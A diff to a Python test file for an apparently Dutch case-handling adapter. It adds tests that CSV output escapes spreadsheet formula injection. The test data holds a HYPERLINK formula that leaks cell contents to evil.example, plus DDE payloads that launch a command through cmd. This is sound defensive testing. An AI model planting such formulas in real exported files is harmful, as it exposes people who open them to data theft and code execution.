@@ -21,7 +21,7 @@ from adapters.base import (
     PermanentError,
     TransientError,
 )
-from adapters.fileformats import read_case, read_message, write_case, write_records
+from adapters.fileformats import read_case, read_message, read_records, write_case, write_records
 from adapters.sftp import SftpAdapter, attachment_names, case_file_name, unsafe_name_reason
 from tests.support.peers_sftp import start_asyncssh, start_sshd
 
@@ -575,3 +575,36 @@ def test_the_name_check_rejects_what_could_leave_a_folder(name, reason):
 )
 def test_the_name_check_accepts_ordinary_names(name):
     assert unsafe_name_reason(name) is None
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text(hostile):
+    payload = {**PAYLOAD, "omschrijving": hostile, "onderneming": {"naam": hostile}}
+    written = write_case(payload, "csv")
+    stored = read_case(written, "csv")
+    assert stored["omschrijving"] == "'" + hostile
+    assert stored["onderneming"]["naam"] == "'" + hostile
+    [record] = read_records(write_records([payload], "csv"), "csv")
+    assert record["omschrijving"] == "'" + hostile
+    # JSON and XML carry no formulas: unchanged.
+    assert read_case(write_case(payload, "json"), "json")["omschrijving"] == hostile
+
+
+def test_reading_csv_keeps_a_leading_quote_or_equals_sign_as_the_agency_wrote_it():
+    data = b"referentie;status;bericht\r\nLK-7F3K-9QX2;REGISTERED;=see letter\r\n"
+    [row] = read_records(data, "csv")
+    assert row["bericht"] == "=see letter"
+    assert read_case(write_case({"a": "49,99 €", "b": "'quoted"}, "csv"), "csv") == {
+        "a": "49,99 €",
+        "b": "'quoted",
+    }
